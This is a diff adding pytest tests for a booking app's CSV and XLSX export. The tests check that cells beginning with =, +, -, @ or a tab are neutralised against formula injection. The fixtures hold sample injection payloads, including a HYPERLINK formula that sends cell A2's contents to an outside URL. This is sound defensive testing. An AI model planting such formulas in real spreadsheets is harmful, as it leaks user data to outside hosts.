@@ -0,0 +1,60 @@
+import csv
+import io
+from contextlib import closing
+
+import pytest
+
+from src.services.export_service import BOOKINGS, csv_chunks, iter_table_rows, neutralize_cell, write_xlsx
+
+FORMULA = '=HYPERLINK("https://example.com/?"&A2,"click")'
+
+
+@pytest.fixture
+def booking_with_formulas(empty_db):
+    with closing(empty_db()) as conn:
+        conn.execute("INSERT INTO Users (id, last_name, first_name, email, phone_number) VALUES (1, ?, ?, ?, ?)",
+                     ('=cmd1', FORMULA, '@mail@example.com', '+49 123'))
+        conn.execute("INSERT INTO Bookings (id, user_id, amount_shifts, supporter_buddy, payment_notes, paid_amount) "
+                     "VALUES (1, 1, 1, ?, ?, -5)", ('\tbuddy', '-1+1'))
+        conn.commit()
+
+
+def test_neutralize_cell():
+    assert neutralize_cell('=cmd1') == "'=cmd1"
+    for prefix in ('+', '-', '@', '\t', '\r'):
+        assert neutralize_cell(f"{prefix}x") == f"'{prefix}x"
+    assert neutralize_cell('Doe') == 'Doe'
+    assert neutralize_cell('') == ''
+    assert neutralize_cell(-5) == -5
+    assert neutralize_cell(None) is None
+
+
+def test_csv_export_neutralizes_formulas(booking_with_formulas):
+    rows = list(csv.reader(io.StringIO(''.join(csv_chunks(iter_table_rows(BOOKINGS))).lstrip('\ufeff'))))
+    header, row = rows[0], dict(zip(rows[0], rows[1]))
+    assert len(rows) == 2 and header[0] == 'ID'
+    assert row['Last name'] == "'=cmd1"
+    assert row['First name'] == f"'{FORMULA}"
+    assert row['Email'] == "'@mail@example.com"
+    assert row['Phone'] == "'+49 123"
+    assert row['Supporter buddy'] == "'\tbuddy"
+    assert row['Payment notes'] == "'-1+1"
+    # Numbers are left alone
+    assert row['Paid amount'] == '-5.0'
+
+
+def test_xlsx_export_writes_text_as_strings(booking_with_formulas):
+    openpyxl = pytest.importorskip('openpyxl')
+    # Rows that were not neutralized must not become formulas either
+    raw = io.BytesIO()
+    write_xlsx(iter([[['Name', 'Amount']], [[FORMULA, -5]]]), raw, 'raw')
+    sheet = openpyxl.load_workbook(io.BytesIO(raw.getvalue())).active
+    assert sheet['A2'].data_type == 's' and sheet['A2'].value == FORMULA
+    assert sheet['B2'].value == -5
+
+    export = io.BytesIO()
+    write_xlsx(iter_table_rows(BOOKINGS), export, 'bookings')
+    sheet = openpyxl.load_workbook(io.BytesIO(export.getvalue())).active
+    header = [cell.value for cell in sheet[1]]
+    last_name = sheet.cell(row=2, column=header.index('Last name') + 1)
+    assert last_name.data_type == 's' and last_name.value == "'=cmd1"